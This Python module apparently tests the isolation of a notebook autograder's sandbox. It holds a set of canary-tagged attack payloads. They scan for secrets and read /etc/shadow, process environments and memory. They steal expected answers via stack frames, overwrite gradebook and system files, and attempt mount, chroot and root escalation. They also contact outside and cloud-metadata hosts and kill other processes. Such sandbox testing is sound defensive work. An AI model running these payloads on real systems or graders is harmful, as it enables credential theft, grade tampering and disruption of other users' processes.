"""Reading what is secret, writing what is not theirs, and talking to the outside."""

from nbformat import NotebookNode


def remember_inputs(notebook: NotebookNode) -> NotebookNode:
    """What a hidden test passes in is printed by the next cell."""
    sources = {
        "mse": """
seen = []
def mse(pred, target):
    open("/tmp/seen", "a").write("CANARY-input")
    open("/dev/shm/seen", "a").write("CANARY-input")
    seen.append("CANARY-input")
    print("CANARY-input")
    raise ValueError("shapes differ")
""",
        "mae": """
import os
for path in ("/tmp/seen", "/dev/shm/seen"):
    if os.path.exists(path): print(open(path).read())
print(seen)
""",
    }
    for cell in notebook.cells:
        cell.source = sources.get(cell.metadata.get("nbgrader", {}).get("grade_id"), cell.source)
    return notebook


ATTACKS = {
    "read_files": """
import os
found = set()
for base in ("..", "../../..", "/", os.path.expanduser("~"), "/proc/self/root", "/proc/1/root", "/proc/1/cwd"):
    for folder, folders, files in os.walk(base):
        folders[:] = [f for f in folders if f not in ("sys", "dev", "lib", "lib64", "proc", ".venv", "usr")]
        for name in files:
            path = os.path.join(folder, name)
            try:
                if os.path.getsize(path) < 10**6 and b"CANARY-" in open(path, "rb").read():
                    found.add(path)
            except OSError: pass
print([open(path).read() for path in found])
""",
    "read_course": """
import glob, os
for path in ("COURSE/solutions", "COURSE/tests/hidden", "COURSE/gradebook.db", "COURSE/submitted",
             "/work", "/home", "/root", "/etc/passwd", "/etc/shadow"):
    for file in [path, *glob.glob(path + "/**", recursive=True)]:
        try: print(file, open(file, "rb").read()[-10_000:])
        except OSError as problem: print(problem)
""",
    "read_environment": """
import os, glob
print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/maps"):
    try: print(path, open(path).read()[:5000])
    except OSError as problem: print(problem)
""",
    "read_memory": """
import glob, re
for path in glob.glob("/proc/*/mem"):
    try:
        maps = [line.split() for line in open(path.replace("mem", "maps"))]
        with open(path, "rb", 0) as memory:
            for area in maps:
                start, end = (int(x, 16) for x in area[0].split("-"))
                if "w" in area[1] and end - start < 10**8:
                    memory.seek(start)
                    data = memory.read(end - start)
                    found = re.search(rb"CANAR[Y]-[a-z]{4,}", data)
                    if found: print(path, found)
    except (OSError, ValueError, OverflowError) as problem: print(problem)
""",
    "read_descriptors": """
import os
for fd in range(256):
    try: print(fd, os.readlink(f"/proc/self/fd/{fd}"), os.pread(fd, 10_000, 0))
    except OSError: pass
""",
    "frame_walk": """
def mse(pred, target):
    import sys, gc
    frame = sys._getframe()
    while frame:
        for name, value in list(frame.f_locals.items()):
            if "expected" in name or "sheet" in name or "reference" in name:
                print("CANARY-frame", name); return value
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Sheet", "Exercise", "Expected"):
            print("CANARY-gc"); return thing
""",
    "remember_inputs": remember_inputs,
    "hidden_by_import": """
import sys, importlib
for name in ("tests.hidden.regression_losses", "hidden_regression_losses", "tests.attacks"):
    try: print("CANARY-import", importlib.import_module(name))
    except ImportError as problem: print(problem)
try:
    from course.hidden import find
    print("CANARY-import", find("mse").reference)
except Exception as problem: print(problem)
""",
    "write_files": """
import os, sys, course, torch
for path in ("COURSE/gradebook.db", "COURSE/solutions/x", "COURSE/tests/hidden/regression_losses.py",
             course.__file__, torch.__file__, sys.executable, os.__file__, "/etc/x", "/x", "/usr/x",
             "/dev/x", "/proc/sys/kernel/hostname", "/var/x", "COURSE/submitted/honest-0/x", "/data/x"):
    try:
        with open(path, "ab") as file: file.write(b"#ATTACKED")
        print("CANARY-written", path)
    except OSError as problem: print(problem)
""",
    "mounts_and_capabilities": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x20000, 0x20000000, 0x40000000):
    if libc.unshare(flags) == 0: print("CANARY-unshare", hex(flags))
for arguments in ((b"none", b"/", None, 0x20, None), (b"proc", b"/proc", b"proc", 0, None),
                  (b"none", b"/tmp", b"", 0x20 | 0x1000, None)):
    if libc.mount(*arguments) == 0: print("CANARY-mount", arguments)
if libc.umount2(b"/tmp", 2) == 0: print("CANARY-umount")
if libc.chroot(b"/tmp") == 0: print("CANARY-chroot")
try: os.setuid(0); print("CANARY-root")
except OSError as problem: print(problem)
""",
    "leave_for_others": """
import socket, os
for path in ("/tmp/CANARY-left", "/dev/shm/CANARY-left", "/CANARY-left", "/var/tmp/CANARY-left"):
    try: open(path, "w").write("CANARY-left")
    except OSError: pass
server = socket.socket(socket.AF_UNIX)
server.bind("\\0CANARY-left")
server.listen()
import threading
threading.Thread(target=lambda: server.accept()[0].send(b"CANARY-left"), daemon=True).start()
import time
time.sleep(1)
""",
    "find_what_is_left": """
import socket, glob, time
for _ in range(20):
    left = [p for base in ("/tmp", "/dev/shm", "/", "/var/tmp") for p in glob.glob(base + "/CANARY*")]
    if left: print(left)
    try:
        client = socket.socket(socket.AF_UNIX)
        client.connect("\\0CANARY" + "-left")
        print(client.recv(100))
    except OSError: pass
    time.sleep(0.05)
""",
    "network": """
import socket, subprocess, urllib.request
for host in ("127.0.0.1", "::1", "localhost", "10.0.2.2", "8.8.8.8", "169.254.169.254"):
    try:
        with socket.create_connection((host, PORT), timeout=0.5) as sock:
            sock.send(b"attack"); print("CANARY-network", host)
    except OSError as problem: print(host, problem)
for port in (22, 53, 80, 443):
    try: socket.create_connection(("1.1.1.1", port), timeout=0.3); print("CANARY-network")
    except OSError as problem: print(problem)
try: print("CANARY-network", urllib.request.urlopen("http://127.0.0.1:PORT", timeout=0.5).read())
except OSError as problem: print(problem)
""",
    "other_processes": """
import os, subprocess, signal
print(subprocess.run("ps aux; id; ls -la / /home /root", shell=True, capture_output=True, text=True).stdout)
for pid in range(2, 5000):
    if pid not in (os.getpid(), os.getppid()):
        try: os.kill(pid, signal.SIGKILL); print("CANARY-killed", pid)
        except OSError: pass
""",
}
